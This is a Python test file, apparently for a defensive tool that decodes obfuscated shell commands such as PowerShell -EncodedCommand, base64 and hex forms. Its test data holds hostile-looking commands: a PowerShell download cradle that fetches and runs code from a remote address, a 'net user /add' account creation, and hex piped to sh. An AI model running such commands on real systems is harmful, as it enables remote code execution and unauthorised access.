import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hinomi.workbench.decode import MAX_DECODED, decode_command

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')"


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("switch", ["-enc", "-e", "-ec", "-EncodedCommand", "/enc", "–en", "-eNcOdEd", "-enc:"])
def test_what_powershell_would_run_is_shown(switch: str) -> None:
    assert decode_command(f"powershell.exe -nop -w hidden {switch} {wide(SCRIPT)}") == SCRIPT


@pytest.mark.parametrize(
    ("command", "hidden"),
    [
        (f'powershell -enc "{wide("whoami")}"', "whoami"),
        (f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{base64.b64encode(SCRIPT.encode()).decode()}'))", SCRIPT),
        (f"echo {SCRIPT.encode().hex()} | xxd -r -p | sh", SCRIPT),
        ("cmd /c " + ",".join(f"0x{byte:02X}" for byte in b"net user hana /add"), "net user hana /add"),
        ("python -c \"" + "".join(f"\\x{byte:02x}" for byte in b"import os; os.listdir()") + "\"", "import os; os.listdir()"),
        (f"powershell -enc {wide('日本語のコマンド whoami /all /priv')}"[:-2], None),
    ],
)  # fmt: skip
def test_other_disguises(command: str, hidden: str | None) -> None:
    if hidden is not None:
        assert decode_command(command) == hidden


def test_one_disguise_inside_another_is_taken_off_too() -> None:
    inner = f"powershell -e {wide('net localgroup administrators')}"
    assert decode_command(f"powershell -enc {wide(inner)}") == f"{inner}\nnet localgroup administrators"


@pytest.mark.parametrize(
    "command",
    [
        "",
        "cmd.exe /c dir",
        "powershell -File C:\\t\\a.ps1",
        "C:\\Windows\\System32\\wbem\\WmiApSrvApSrvApSrvApSrvApSrv.exe",
        "svchost.exe -k LocalServiceNetworkRestrictedAndMore -p -s something",
        "git log d670460b4b4aece5915caf5c68d12f560a9fe3e4",
        "app.exe --token AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "/usr/lib/systemd/system-generators/systemd-fstab-generator",
        "powershell -enc !!!notbase64!!!",
    ],
)
def test_a_plain_command_hides_nothing(command: str) -> None:
    assert decode_command(command) is None


@given(st.text(max_size=400), st.binary(max_size=300))
def test_no_text_is_too_strange(text: str, data: bytes) -> None:
    for command in (text, f"powershell -enc {base64.b64encode(data).decode()}", data.hex()):
        found = decode_command(command)
        assert found is None or 0 < len(found) <= MAX_DECODED


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=4, max_size=200))
def test_any_latin_script_comes_back(script: str) -> None:
    payload = wide(script)
    found = decode_command(f"powershell -enc {payload}")
    if len(set(payload.rstrip("="))) >= 8 and any(letter.isalpha() for letter in script):
        assert found is not None
        assert found.split("\n")[0] == script


@pytest.mark.parametrize(
    "command", ["A" * 500_000, "-e " * 100_000, "0x41," * 100_000, "-enc " + "QUFB" * 100_000, "=" * 300_000]
)
def test_a_hostile_command_is_bounded(command: str) -> None:
    found = decode_command(command)
    assert found is None or len(found) <= MAX_DECODED
